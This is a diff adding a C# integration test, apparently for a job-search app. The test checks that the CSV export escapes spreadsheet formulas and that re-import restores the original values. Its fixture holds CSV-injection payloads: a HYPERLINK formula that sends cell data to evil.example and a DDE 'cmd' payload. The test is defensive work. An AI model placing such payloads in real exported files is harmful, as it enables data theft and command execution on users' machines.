@@ -305,4 +305,49 @@ public sealed class ImportPageTests(WebApps apps) : IClassFixture<WebApps>
         page.QuerySelector("a[href='/import']")!.TextContent.ShouldBe("Import a CSV file");
         page.QuerySelector("a[href='/data?handler=ExportCsv']").ShouldNotBeNull();
     }
+
+    /// <summary>Values a spreadsheet program would run as formulas, as the security review typed them (issue 22).</summary>
+    private const string FormulaSearch = """
+        {
+          "version": 1,
+          "candidate": { "employment": "employed" },
+          "opportunities": [
+            { "id": "leak", "company": "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")", "role": "+1+cmd|' /C calc'!A0", "stage": "applied",
+              "notes": "@SUM(1+1)" },
+            { "id": "minus", "company": "-2+3", "role": "\tTabbed", "stage": "interviewing", "notes": "=1+1" }
+          ]
+        }
+        """;
+
+    [Theory]
+    [InlineData("sqlite")]
+    [PostgresInlineData("postgres")]
+    public async Task TheSpreadsheetDownloadEscapesFormulasAndImportsBackUnchanged(string provider)
+    {
+        var owner = await apps[provider].PageUserAsync();
+        (await owner.PutPipelineRawAsync(FormulaSearch)).StatusCode.ShouldBe(HttpStatusCode.NoContent);
+
+        var download = await owner.GetAsync("/data?handler=ExportCsv");
+        download.StatusCode.ShouldBe(HttpStatusCode.OK);
+        var bytes = await download.Content.ReadAsByteArrayAsync();
+        using (var csv = new CsvHelper.CsvParser(new StringReader(Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF')), System.Globalization.CultureInfo.InvariantCulture))
+        {
+            csv.Read();
+            while (csv.Read())
+                foreach (var cell in csv.Record!)
+                    (cell.Length > 0 && "=+-@\t\r".Contains(cell[0])).ShouldBeFalse($"the cell \"{cell}\" would run as a formula");
+        }
+        Encoding.UTF8.GetString(bytes).ShouldContain("'=HYPERLINK(");
+
+        // Read back by the import, the values are the ones typed, not the escaped ones.
+        var other = await apps[provider].PageUserAsync();
+        var preview = await (await PreviewAsync(other, "offerdesk-search.csv", bytes)).Content.ReadAsStringAsync();
+        (await PressAsync(other, PreviewForm(preview), "Confirm")).StatusCode.ShouldBe(HttpStatusCode.Redirect);
+        var pipeline = JsonDocument.Parse(await other.PipelineAsync()).RootElement.GetProperty("opportunities").EnumerateArray().ToList();
+        pipeline.Select(o => o.GetProperty("company").GetString()).ShouldBe(["=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Open\")", "-2+3"]);
+        pipeline[0].GetProperty("role").GetString().ShouldBe("+1+cmd|' /C calc'!A0");
+        pipeline[0].GetProperty("notes").GetString()!.ShouldContain("@SUM(1+1)");
+        pipeline[1].GetProperty("notes").GetString()!.ShouldContain("=1+1");
+        pipeline[1].GetProperty("stage").GetString().ShouldBe("interviewing");
+    }
 }
